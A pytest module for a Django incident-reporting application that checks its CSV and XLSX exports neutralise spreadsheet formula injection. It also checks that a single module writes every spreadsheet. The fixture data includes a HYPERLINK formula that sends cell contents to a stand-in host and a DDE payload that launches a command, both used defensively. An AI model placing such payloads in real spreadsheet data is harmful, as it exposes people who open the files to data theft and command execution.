"""Exports that are data, never code (issue 19 item 2): every CSV and XLSX GIR writes,
run for real with names that carry formula payloads, parsed back; no cell is a formula
and every text that could start one begins with the escape. Plus a guard: nothing but
`gir.core.spreadsheets` makes a CSV writer or a workbook, and every module that uses it
has its export in this file."""

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from django.conf import settings
from django.urls import reverse

import pytest
from openpyxl import load_workbook

from gir.accounts.models import FunctionGroup
from gir.accounts.tests.factories import LocationFactory, TeamFactory, TeamMembershipFactory, UserFactory
from gir.audit.models import AuditAction
from gir.audit.services import log_event
from gir.core.clock import AMSTERDAM
from gir.core.spreadsheets import ESCAPE, FORMULA_STARTS, cell, csv_bytes, xlsx_bytes
from gir.imports.management.commands.make_import_example import example_csv, example_xlsx
from gir.protocol.tests.helpers import report
from gir.reports.constants import ExportFormat
from gir.reports.figures import Period
from gir.reports.services import export_request
from gir.reports.tests.helpers import counted

pytestmark = pytest.mark.django_db

# The payloads of issue 19 ("26 cells in 12 files").
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tx",
    "\rx",
)
ESCAPED = {ESCAPE + payload for payload in PAYLOADS}
NUMBER = re.compile(r"-?\d+(\.\d+)?")
# The fourth quarter: a director asks for a whole calendar quarter (ADR 0022).
FOURTH_QUARTER = {"van": "2026-10-01", "tot": "2026-12-31"}


# --- Reading the files back -------------------------------------------------------------


def csv_cells(data: bytes) -> list[Any]:
    text = data.decode("utf-8-sig")
    return [value for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for value in row]


def xlsx_cells(data: bytes) -> list[Any]:
    """Every cell's value, after checking that none is stored as a formula."""
    book = load_workbook(io.BytesIO(data))  # not read-only: it tells the cell's type
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for one in row:
                assert one.data_type != "f", f"{sheet.title}!{one.coordinate} is a formula: {one.value!r}"
                values.append(one.value)
    return values


def file_cells(data: bytes) -> list[Any]:
    return xlsx_cells(data) if data[:2] == b"PK" else csv_cells(data)


def assert_data_only(values: list[Any], *, payloads: bool = True) -> None:
    """No text starts like a formula; with `payloads`, every payload is there, escaped."""
    texts = [v for v in values if isinstance(v, str)]
    # A cell that starts with the escape is text; none starts with a formula character,
    # but for a number in a CSV file, which has no types ("-2" is a number, not code).
    assert not [t for t in texts if t.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(t)]
    if payloads:
        found = {t for t in texts if t in ESCAPED}
        # A payload may sit inside a longer text ("Name (username)"); it then starts that text.
        found |= {e for e in ESCAPED for t in texts if t.startswith(e)}
        assert found == ESCAPED, f"missing: {ESCAPED - found}"


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- Data whose names and texts carry the payloads ---------------------------------------


@pytest.fixture
def poisoned(world):
    """Per payload a department, a team in it, a location, a function group and an
    employee named with it; each employee reports an incident at that location."""
    moment = dt.datetime(2026, 10, 5, 10, tzinfo=AMSTERDAM)
    for payload in PAYLOADS:
        team = TeamFactory(name=payload, parent__name=payload)
        location = LocationFactory(name=payload)
        FunctionGroup.objects.create(name=payload)
        employee = UserFactory(first_name=payload, last_name=payload)
        TeamMembershipFactory(user=employee, team=team)
        report(employee, occurred_at=moment, location=location, description=payload)
        # The privacy officer's log: an actor named with it, and a detail that is shown.
        log_event(actor=employee, action=AuditAction.LOGGED_IN, target=employee, detail=payload)
    counted()  # the worker counts the figures
    return world


# --- Every export -----------------------------------------------------------------------


@pytest.mark.parametrize("persona", ["coordinator", "director"])
def test_the_dashboard_tables_as_xlsx(client, poisoned, persona):
    client.force_login(poisoned.users[persona])
    response = client.get(reverse("reports:tables_xlsx"), FOURTH_QUARTER)
    assert response.status_code == 200
    assert_data_only(xlsx_cells(_body(response)))


@pytest.mark.parametrize("table", ["location", "department", "function_group"])
def test_the_dashboard_tables_as_csv(client, poisoned, table):
    client.force_login(poisoned.users["director"])
    response = client.get(reverse("reports:table_csv"), {**FOURTH_QUARTER, "tabel": table})
    assert response.status_code == 200
    assert_data_only(csv_cells(_body(response)))


@pytest.mark.parametrize("fmt", [ExportFormat.XLSX, ExportFormat.CSV])
def test_the_case_export(poisoned, fmt, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        export = export_request(
            actor=poisoned.users["coordinator"],
            period=Period(dt.date(2026, 10, 1), dt.date(2026, 10, 31)),
            unit=None,
            fmt=fmt,
        )
    export.refresh_from_db()
    with export.file.open("rb") as handle:
        values = file_cells(handle.read())
    assert_data_only(values)  # the team and location names
    assert len([v for v in values if v in ESCAPED]) >= 2 * len(PAYLOADS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_audit_log_export(client, poisoned, fmt):
    client.force_login(poisoned.users["privacy_officer"])
    response = client.get(reverse("privacy:audit_export"), {"formaat": fmt})
    assert response.status_code == 200
    assert_data_only(file_cells(_body(response)))  # the actors' names and the details


@pytest.mark.parametrize("name", ["imports:example_xlsx", "imports:example_csv"])
def test_the_import_examples_as_served_and_as_made(client, world, name):
    client.force_login(world.users["coordinator"])
    served = _body(client.get(reverse(name)))
    made = example_xlsx() if name.endswith("xlsx") else example_csv()
    for data in (served, made):
        assert_data_only(file_cells(data), payloads=False)


# --- The one place ----------------------------------------------------------------------


def test_the_writer_escapes_texts_and_leaves_numbers_and_dates():
    day = dt.date(2026, 10, 5)
    assert [cell(v) for v in (-2, 3.5, None, day, "2-3", "a=b", "", "'")] == [-2, 3.5, None, day] + [
        "2-3",
        "a=b",
        "",
        "'",
    ]
    assert [cell(p) for p in PAYLOADS] == [ESCAPE + p for p in PAYLOADS]
    rows = [["kop", "waarde"], *[[p, -2] for p in PAYLOADS]]
    book = load_workbook(io.BytesIO(xlsx_bytes({"blad": rows})))
    numbers = [row[1].value for row in book.active.iter_rows(min_row=2)]
    assert numbers == [-2] * len(PAYLOADS)  # numbers stay numbers
    assert_data_only(xlsx_cells(xlsx_bytes({"blad": rows})))
    assert_data_only(csv_cells(csv_bytes(rows)))


WRITERS = re.compile(
    r"csv\.(writer|DictWriter)\(|\bWorkbook\(|\bWriteOnlyCell\b|xlsxwriter|ezodf|pyexcel|tablib"
)
USERS = re.compile(r"gir\.core(\.spreadsheets| import spreadsheets)|from \.spreadsheets|spreadsheets\.")
# Every module that writes through gir.core.spreadsheets, and the test above that runs it.
COVERED = {
    "gir/reports/exports.py": "test_the_dashboard_tables_as_xlsx, _as_csv, test_the_case_export",
    "gir/privacy/exports.py": "test_the_audit_log_export",
    "gir/imports/management/commands/make_import_example.py": "test_the_import_examples_as_served_and_as_made",  # noqa: E501
    # A benchmark's input file, read back by the import; never handed to a user.
    "gir/demo/management/commands/bench_import.py": "not an export",
}


def _sources() -> Iterator[tuple[str, str]]:
    root = Path(settings.BASE_DIR)
    for path in sorted((root / "gir").rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in relative or "/migrations/" in relative:
            continue
        yield relative, path.read_text(encoding="utf-8")


def test_only_the_one_module_writes_spreadsheets():
    writers = {name for name, text in _sources() if WRITERS.search(text)}
    assert writers == {"gir/core/spreadsheets.py"}, (
        "Write CSV and XLSX through gir.core.spreadsheets, so that no cell becomes a formula"
    )


def test_every_module_that_writes_a_spreadsheet_has_its_export_tested_here():
    users = {name for name, text in _sources() if USERS.search(text)} - {"gir/core/spreadsheets.py"}
    assert users == set(COVERED), "Add the new export to this file's tests and to COVERED"
